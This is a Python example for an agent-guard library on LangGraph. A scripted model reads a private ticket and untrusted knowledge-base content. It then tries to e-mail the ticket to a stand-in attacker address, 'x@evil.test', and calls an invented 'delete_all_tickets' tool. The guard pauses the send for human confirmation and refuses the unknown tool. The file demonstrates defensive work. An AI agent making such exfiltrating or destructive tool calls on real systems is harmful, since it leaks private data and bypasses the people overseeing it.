"""A LangGraph agent whose tools run through a guarded ToolNode.

Run it: ``python examples/langgraph_agent.py`` (needs the ``langgraph``
extra). The model is scripted (LangChain's ``GenericFakeChatModel``), so the
example runs offline; a real chat model drops in unchanged. The agent:

1. reads a ticket (internal data: the run is now *private*) and searches the
   web-facing knowledge base (untrusted content: the run is now *untrusted*),
   two tool calls in parallel;
2. asks to e-mail the ticket out. A tainted run may not call a tool with the
   ``sends_external`` capability unconfirmed (I12): the guarded ToolNode,
   built with ``confirm="interrupt"``, pauses the graph with LangGraph's
   ``interrupt()``. The person says no (``Command(resume=False)``): nothing
   is sent. In a second thread they say yes: the e-mail goes out;
3. invents a tool name: refused (``tool_unknown``).
"""

from __future__ import annotations

from typing import Any

from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import tools_condition
from langgraph.types import Command

from aiinvariants import Guard, InvariantViolation, Policy, Principal, acting_as
from aiinvariants.integrations.langgraph import guard_tool_node
from aiinvariants.taint import agent_run

policy = Policy.from_dict(
    {
        "app": "support-agent",
        "clearance": {"scopes": {"tickets:read": "internal"}},
        "capabilities": {"confirm": ["sends_external"]},
        "tools": {
            "search_kb": {"data": "public"},
            "read_ticket": {
                "scopes": ["tickets:read"],
                "data": "internal",
                "untrusted_output": False,
            },
            "send_email": {
                "scopes": ["mail:send"],
                "capabilities": ["sends_external"],
                "data": "public",
            },
        },
    }
)
guard = Guard(policy)
alice = Principal(
    subject="alice", authenticated=True, scopes={"tickets:read", "mail:send"}
)
outbox: list[str] = []


@tool
def search_kb(query: str) -> str:
    """Search the knowledge base (its pages are untrusted content)."""
    return f"kb: how to reset a {query}"


@tool
def read_ticket(ticket_id: str) -> str:
    """Read a support ticket."""
    return f"ticket {ticket_id}: printer jammed on floor 3"


@tool
def send_email(to: str, body: str) -> str:
    """Send an e-mail."""
    outbox.append(to)
    return "sent"


def call(name: str, args: dict[str, Any], call_id: str) -> dict[str, Any]:
    return {"name": name, "args": args, "id": call_id, "type": "tool_call"}


def build(script: list[AIMessage]) -> Any:
    model = GenericFakeChatModel(messages=iter(script))
    tools = guard_tool_node(
        guard,
        [search_kb, read_ticket, send_email],
        confirm="interrupt",
        handle_tool_errors=(InvariantViolation,),  # denials go back to the model
    )

    def agent(state: MessagesState) -> dict[str, Any]:
        return {"messages": [model.invoke(state["messages"])]}

    graph = StateGraph(MessagesState)
    graph.add_node("agent", agent)
    graph.add_node("tools", tools)
    graph.add_edge(START, "agent")
    graph.add_conditional_edges("agent", tools_condition)
    graph.add_edge("tools", "agent")
    return graph.compile(checkpointer=InMemorySaver())


def script() -> list[AIMessage]:
    return [
        AIMessage(
            "",
            tool_calls=[
                call("read_ticket", {"ticket_id": "T-7"}, "c1"),
                call("search_kb", {"query": "printer"}, "c2"),
            ],
        ),
        AIMessage(
            "",
            tool_calls=[call("send_email", {"to": "x@evil.test", "body": "T-7"}, "c3")],
        ),
        AIMessage("", tool_calls=[call("delete_all_tickets", {}, "c4")]),
        AIMessage("done"),
    ]


def tool_results(state: dict[str, Any]) -> list[str]:
    return [
        f"{m.name}={'error' if m.status == 'error' else 'ok'}"
        for m in state["messages"]
        if isinstance(m, ToolMessage)
    ]


for thread, answer in (("declined", False), ("approved", True)):
    graph = build(script())
    config = {"configurable": {"thread_id": thread}}
    with acting_as(alice), agent_run():
        state = graph.invoke({"messages": [HumanMessage("help with T-7")]}, config)
        (question,) = state["__interrupt__"]
        asked = question.value
        private, untrusted = asked["private_sources"], asked["untrusted_sources"]
        print(
            f"{thread}: interrupt for {asked['tool']} "
            f"(private: {private}, untrusted: {untrusted})"
        )
        state = graph.invoke(Command(resume=answer), config)
    print(f"{thread}: {', '.join(tool_results(state))}; outbox {outbox}")
